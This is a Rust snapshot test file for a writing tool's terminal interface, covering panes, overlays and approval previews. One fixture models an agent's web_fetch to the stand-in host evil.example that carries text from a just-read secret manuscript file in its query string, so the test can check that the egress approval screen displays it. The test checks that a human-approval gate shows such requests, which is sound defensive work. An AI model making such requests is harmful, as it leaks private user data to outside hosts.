//! Snapshot tests of every pane (with data and empty), every overlay, and the approval
//! preview of each kind, at 80×24 and 120×40, rendered with ratatui's TestBackend from an
//! `AppState` built from fixture data. Also: odd sizes render without panicking. The World
//! pane's snapshots are in `tui_world_snapshots.rs` (on a real project).

mod tui_support;

use nbook::engine::Mode;
use nbook::tui::action::{Action, Command};
use nbook::tui::app::{AppState, Pane};
use tui_support::*;

const SIZES: [(u16, u16); 2] = [(80, 24), (120, 40)];

fn snap(name: &str, build: impl Fn(u16, u16) -> AppState) {
    for (w, h) in SIZES {
        let mut app = build(w, h);
        let screen = render(&mut app, w, h);
        insta::assert_snapshot!(format!("{name}_{w}x{h}"), screen);
    }
}

fn focused(pane: Pane) -> impl Fn(u16, u16) -> AppState {
    move |w, h| {
        let (mut app, _) = full_app(w, h);
        app.focus = pane;
        app
    }
}

fn empty_focused(pane: Pane) -> impl Fn(u16, u16) -> AppState {
    move |w, h| {
        let (mut app, _) = empty_app(w, h);
        // Deliver empty results as the jobs would.
        let fx = app.start();
        for f in fx {
            match f {
                nbook::tui::action::Effect::LoadDir { ticket, dir } => {
                    app.update(Action::DirLoaded {
                        ticket,
                        dir,
                        result: Ok(vec![]),
                    });
                }
                nbook::tui::action::Effect::LoadStory { ticket } => {
                    app.update(Action::StoryLoaded {
                        ticket,
                        result: Ok(Default::default()),
                    });
                }
                nbook::tui::action::Effect::WorldJob { ticket, .. } => {
                    app.update(Action::WorldJobDone {
                        ticket,
                        result: nbook::tui::world::jobs::WorldJobResult::Loaded(Ok(
                            Default::default(),
                        )),
                    });
                }
                _ => {}
            }
        }
        app.focus = pane;
        app
    }
}

#[test]
fn files_pane() {
    snap("files", focused(Pane::Files));
}

#[test]
fn files_pane_empty() {
    snap("files_empty", empty_focused(Pane::Files));
}

#[test]
fn story_pane() {
    snap("story", focused(Pane::Story));
}

#[test]
fn story_pane_empty() {
    snap("story_empty", empty_focused(Pane::Story));
}

#[test]
fn sessions_pane() {
    snap("sessions", focused(Pane::Sessions));
}

#[test]
fn sessions_pane_empty() {
    snap("sessions_empty", empty_focused(Pane::Sessions));
}

#[test]
fn approvals_pane_empty() {
    snap("approvals_empty", empty_focused(Pane::Approvals));
}

#[test]
fn approval_multi_file_patch() {
    snap("approval_patch", |w, h| {
        let (mut app, _) = full_app(w, h);
        app.focus = Pane::Approvals;
        app
    });
}

#[test]
fn approval_command() {
    snap("approval_command", |w, h| {
        let (mut app, _) = full_app(w, h);
        app.focus = Pane::Approvals;
        app.update(Action::Cmd(Command::Down));
        app
    });
}

#[test]
fn approval_text() {
    snap("approval_text", |w, h| {
        let (mut app, _) = full_app(w, h);
        app.focus = Pane::Approvals;
        app.update(Action::Cmd(Command::Bottom));
        app
    });
}

/// A web_fetch waiting at the egress gate: host, method and URL (long query value elided with
/// its length), who asked, and what that session and its parent read before.
fn egress_call() -> nbook::engine::PendingCall {
    use nbook::engine::{EgressShown, PreviewBody};
    let mut c = pending(
        "call-egress",
        "web_fetch",
        PreviewBody::Egress {
            requests: vec![EgressShown {
                host: "evil.example".into(),
                method: "GET".into(),
                url: "https://evil.example/c?q=the heir is the…(812 chars)&lang=en".into(),
                body: vec![],
            }],
            session: "2 (writer)".into(),
            earlier: vec![
                "session 2 (writer): read path=manuscript/secret.md".into(),
                "session 1 (leader.default, which started it): get_story_tree".into(),
            ],
        },
        "Send a request to evil.example",
        true,
        Mode::Discuss,
    );
    c.session_id = "2".into();
    c.profile = "writer".into();
    c.args = serde_json::json!({"url": "https://evil.example/c?q=..."});
    c
}

#[test]
fn approval_egress() {
    snap("approval_egress", |w, h| {
        let (mut app, _) = full_app(w, h);
        app.update(Action::Engine(
            nbook::engine::EngineEvent::ApprovalRequested {
                call: egress_call(),
            },
        ));
        app.focus = Pane::Approvals;
        app.update(Action::Cmd(Command::Bottom));
        app
    });
}

#[test]
fn approval_detail_overlay() {
    snap("approval_detail", |w, h| {
        let (mut app, _) = full_app(w, h);
        app.focus = Pane::Approvals;
        press(&mut app, "<Enter>");
        app
    });
}

#[test]
fn help_overlay() {
    snap("help", |w, h| {
        let (mut app, _) = full_app(w, h);
        press(&mut app, "?");
        app
    });
}

#[test]
fn palette_overlay() {
    snap("palette", |w, h| {
        let (mut app, _) = full_app(w, h);
        press(&mut app, "<C-p>");
        app
    });
    snap("palette_filtered", |w, h| {
        let (mut app, _) = full_app(w, h);
        press(&mut app, ": a p p r");
        app
    });
}

#[test]
fn finder_overlay() {
    snap("finder", |w, h| {
        let (mut app, _) = full_app(w, h);
        let t = app.files.walk_ticket.unwrap();
        app.update(Action::FilesWalked {
            ticket: t,
            paths: std::sync::Arc::new(vec![
                "AGENTS.md".into(),
                "lorebook/character/mira/index.md".into(),
                "manuscript/001-volume/001-chapter/index.md".into(),
                "manuscript/001-volume/002-chapter/index.md".into(),
            ]),
        });
        press(&mut app, "/");
        let fx = press(&mut app, "m i r");
        // Deliver the (last) match job's result, computed the way the runtime does.
        if let Some(nbook::tui::action::Effect::FilterFiles {
            ticket,
            query,
            paths,
        }) = fx.last().cloned()
        {
            let shown: Vec<_> = paths.iter().map(|p| p.shown()).collect();
            let matches = nbook::tui::files::finder::fuzzy_match(
                &query,
                shown.iter().map(|s| s.as_ref()),
                true,
                500,
            );
            app.update(Action::FinderMatched { ticket, matches });
        }
        app
    });
}

#[test]
fn confirm_quit_dialog() {
    snap("confirm_quit", |w, h| {
        let (mut app, _) = full_app(w, h);
        press(&mut app, "q");
        app
    });
}

#[test]
fn reject_reason_prompt() {
    snap("reject_prompt", |w, h| {
        let (mut app, _) = full_app(w, h);
        app.focus = Pane::Approvals;
        press(&mut app, "n");
        press(&mut app, "t o o <Space> l o n g");
        app
    });
}

#[test]
fn args_editor_with_error() {
    snap("args_editor", |w, h| {
        let (mut app, clock) = full_app(w, h);
        app.focus = Pane::Approvals;
        app.update(Action::Cmd(Command::Bottom));
        press(&mut app, "e");
        press(&mut app, "x <C-s>");
        clock.advance(std::time::Duration::from_secs(2));
        app
    });
}

#[test]
fn mode_badges_and_receipt_in_status_bar() {
    snap("status_receipt", |w, h| {
        let (mut app, clock) = full_app(w, h);
        app.focus = Pane::Approvals;
        clock.advance(std::time::Duration::from_secs(2));
        press(&mut app, "y");
        app
    });
}

#[test]
fn odd_sizes_do_not_panic() {
    for (w, h) in [
        (10, 5),
        (1, 1),
        (19, 24),
        (30, 8),
        (49, 12),
        (50, 7),
        (200, 3),
        (300, 100),
    ] {
        for pane in Pane::ALL {
            let (mut app, _) = full_app(w, h);
            app.focus = pane;
            let _ = render(&mut app, w, h);
            for keys in ["?", "<C-p>", "q", "/"] {
                let (mut app, _) = full_app(w, h);
                app.focus = pane;
                press(&mut app, keys);
                let _ = render(&mut app, w, h);
            }
        }
        let (mut app, _) = full_app(w, h);
        app.focus = Pane::Approvals;
        press(&mut app, "e");
        let _ = render(&mut app, w, h);
        let (mut app, _) = full_app(w, h);
        app.focus = Pane::Approvals;
        press(&mut app, "n");
        let _ = render(&mut app, w, h);
    }
    // The too-small note names the size.
    let (mut app, _) = full_app(10, 5);
    assert!(render(&mut app, 10, 5).contains("small"));
    let _ = Mode::Normal;
}

/// An execute_world write that creates error issues: the approval lists them first, as
/// warnings (code, label, subject, path — message), above the slices and the state diff.
#[test]
fn approval_world_write_with_issues() {
    use nbook::engine::types::{FieldChange, PreviewBody, RecordChange};
    use nbook::world::sandbox::preview::ISSUES_ACTION;
    use serde_json::{json, Value};
    let field = |f: &str, b: Value, a: Value| FieldChange {
        field: f.into(),
        before: b,
        after: a,
    };
    let changes = vec![
        RecordChange {
            record: "1 error issue this write creates (the patches stay in their slices and are skipped when state is computed)".into(),
            action: ISSUES_ACTION.into(),
            fields: vec![field(
                "E1 broken-relative c-erina /gold",
                Value::Null,
                json!("increment /gold on c-erina: there is no number to increment"),
            )],
        },
        RecordChange {
            record: "slice 3f2a9c1d at 1914-01-03 00:00 «Erina finds gold»".into(),
            action: "write".into(),
            fields: vec![
                field("time", Value::Null, json!("1914-01-03 00:00")),
                field("title", Value::Null, json!("Erina finds gold")),
                field("patches", Value::Null, json!(["c-erina increment /gold 5"])),
            ],
        },
        RecordChange {
            record: "subject c-erina «Erina» (character) at 1914-01-03 00:00".into(),
            action: "unchanged".into(),
            fields: vec![],
        },
    ];
    snap("approval_world_issues", |w, h| {
        let (mut app, _) = empty_app_with(
            w,
            h,
            vec![],
            vec![pending(
                "call-world",
                "execute_world",
                PreviewBody::Records {
                    changes: changes.clone(),
                },
                "execute_world: write 1 slice; 0 subject states change; 1 error issue",
                true,
                nbook::engine::Mode::Normal,
            )],
        );
        app.focus = Pane::Approvals;
        app
    });
}

/// A folder's count reads in the right number: "1 entry", not "1 entries".
#[test]
fn a_folder_with_one_entry_says_entry() {
    let (mut app, _) = full_app(100, 20);
    app.focus = nbook::tui::app::Pane::Files;
    // From the chapter file up to its folder, which holds only that file.
    press(&mut app, "k");
    let screen = render(&mut app, 100, 20);
    assert!(screen.contains("001-chapter — 1 entry."), "{screen}");
    insta::assert_snapshot!(screen);
}
